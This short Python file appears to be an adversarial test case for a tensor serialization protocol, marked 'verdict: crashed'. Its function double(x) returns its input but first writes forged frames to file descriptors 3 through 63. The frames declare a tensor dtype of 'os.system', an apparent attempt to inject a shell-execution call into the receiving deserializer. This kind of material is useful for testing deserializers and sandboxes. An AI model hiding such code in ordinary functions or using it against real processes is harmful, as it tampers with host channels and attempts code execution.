"""A tensor of a dtype that is none."""
# verdict: crashed

import json
import os
import struct


def double(x):
    header = json.dumps({"value": {"x": 0}, "tensors": [{"dtype": "os.system", "shape": [1], "stride": None, "n": 4}]}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("!IQ", len(header), 4 if b'"n": 4' in header else 24 if b'"n": 24' in header else 0))
            os.write(fd, header + bytes(24 if b'"n": 24' in header else 4 if b'"n": 4' in header else 0))
        except OSError:
            pass
    return x
